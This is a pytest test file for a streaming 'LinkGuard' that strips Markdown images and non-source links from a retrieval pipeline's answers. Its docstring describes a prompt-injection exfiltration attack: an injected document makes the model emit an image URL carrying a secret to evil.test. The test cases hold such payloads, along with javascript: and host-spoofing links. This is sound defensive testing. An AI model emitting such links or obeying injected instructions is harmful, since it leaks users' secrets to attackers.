"""The answer text loses Markdown images and links to hosts its sources do not come from.

An injected document can ask the model for ``![x](https://evil/?q=<secret>)``: a client that
renders Markdown would fetch it, sending the secret to that host with no click at all.
"""

from __future__ import annotations

import pytest
from llm_harness import hit

from ragline_generation.domain.link_guard import LINK_REMOVED, LinkGuard, source_hosts

SOURCES = frozenset({"docs.example.com"})
GONE = LINK_REMOVED

CASES = [
    # images: always reduced to their alt text, whatever the host
    ("See ![chart](https://evil.test/?q=s3cret) here.", "See chart here."),
    ("![](https://evil.test/pixel.png)Done", "Done"),
    ("![logo](https://docs.example.com/logo.png)", "logo"),
    ('![a](<https://evil.test/a b.png> "title")', "a"),
    ("![alt][ref] and ![other][]", "alt and other"),
    ("![shortcut] text", "shortcut text"),
    ("paid![1] on time", "paid! [1] on time"),
    ("![[inner](https://evil.test/x)](https://evil.test/y)", "inner"),
    ('<img src="https://evil.test/?q=1" alt="x"> after', " after"),
    # links: kept to the sources' hosts, otherwise only their text remains
    (
        "Read [the guide](https://docs.example.com/guide).",
        "Read [the guide](https://docs.example.com/guide).",
    ),
    ("Read [the guide](https://evil.test/?q=s3cret).", "Read the guide."),
    ("[x](HTTPS://Docs.Example.com:443/a)", "[x](HTTPS://Docs.Example.com:443/a)"),
    ("[x](https://docs.example.com@evil.test/)", "x"),
    ("[x](//evil.test/?q=1)", "x"),
    ("[x](javascript:alert(1))", "x"),
    ("[a [nested] label](https://evil.test/)", r"a \[nested\] label"),
    ("[[c]](https://evil.test/)(//evil.test/q)", r"\[c\](//evil.test/q)"),
    ("[see](the docs) later", "[see](the docs) later"),
    ("[a][b](https://evil.test/) and [c][d].", "[a]b and [c][d]."),
    ('<a href="https://evil.test/">click</a>', "click</a>"),
    # autolinks, bare URLs and reference definitions
    ("Go to <https://evil.test/?q=1> now", f"Go to {GONE} now"),
    ("Go to <https://docs.example.com/a> now", "Go to <https://docs.example.com/a> now"),
    ("Visit https://evil.test/p?q=s3cret.", f"Visit {GONE}."),
    ("Visit www.evil.test/p, then", f"Visit {GONE}, then"),
    ("Visit https://docs.example.com/p.", "Visit https://docs.example.com/p."),
    ("[r]: https://evil.test/?q=1\nText [t][r]", "\nText [t][r]"),
    ("[r]: https://docs.example.com/x\n", "[r]: https://docs.example.com/x\n"),
    # ordinary text and citations pass unchanged
    ("Refunds take fourteen days [1] and parking is free [2].", None),
    ("An array a[0] < b and c > d! Done [1][2].", None),
    ("Escaped \\[x](https://docs.example.com) stays.", None),
]


def _expected(text: str, expected: str | None) -> str:
    return text if expected is None else expected


@pytest.mark.parametrize(("text", "expected"), CASES)
def test_a_whole_answer_is_cleaned(text: str, expected: str | None) -> None:
    assert LinkGuard(SOURCES).clean_all(text) == _expected(text, expected)


@pytest.mark.parametrize(("text", "expected"), CASES)
def test_a_streamed_answer_is_cleaned_wherever_the_pieces_split(
    text: str, expected: str | None
) -> None:
    for cut in range(1, len(text)):
        guard = LinkGuard(SOURCES)
        streamed = guard.feed(text[:cut]) + guard.feed(text[cut:]) + guard.flush()
        assert streamed == _expected(text, expected), f"split at {cut}"
    guard = LinkGuard(SOURCES)
    one_by_one = "".join(guard.feed(char) for char in text) + guard.flush()
    assert one_by_one == _expected(text, expected)


def test_text_is_held_back_only_while_a_construct_may_be_open() -> None:
    guard = LinkGuard(SOURCES)

    assert guard.feed("Refunds take") == "Refunds take"
    assert guard.feed(" days ![") == " days "
    assert guard.feed("x](https://evil") == ""
    assert guard.feed(".test/?q=1) and") == "x and"
    assert guard.feed(" [1]") == " "
    assert guard.feed(".") == "[1]."


def test_a_tag_left_open_by_removing_one_inside_it_cannot_close_later() -> None:
    text = '<img src=//evil.test/q<a href="//evil.test/">> end'
    for cut in range(1, len(text)):
        guard = LinkGuard(SOURCES)
        streamed = guard.feed(text[:cut]) + guard.feed(text[cut:]) + guard.flush()
        # Whole, both tags go; split after the inner one, the outer is escaped (plain text).
        assert streamed in (" end", "\\<img src=//evil.test/q> end"), f"split at {cut}"


def test_without_source_urls_every_link_is_reduced() -> None:
    guard = LinkGuard(frozenset())

    assert guard.clean_all("[a](https://docs.example.com/) https://x.test") == f"a {GONE}"


def test_a_construct_left_open_too_long_is_released_inert() -> None:
    guard = LinkGuard(SOURCES)
    opened = guard.feed("[" + "word " * 400)
    closed = guard.feed("](https://evil.test/?q=1)") + guard.flush()

    assert opened.startswith("\\[word") and "evil.test" not in closed


def test_source_hosts_come_from_source_names_and_metadata_urls() -> None:
    hits = [
        hit("c1", "text", source_name="https://Docs.Example.com/handbook"),
        hit("c2", "text", metadata={"url": "http://wiki.example.org/p", "lang": "en"}),
        hit("c3", "text", source_name="handbook.pdf", metadata={"n": 3}),
    ]

    assert source_hosts(hits) == {"docs.example.com", "wiki.example.org"}
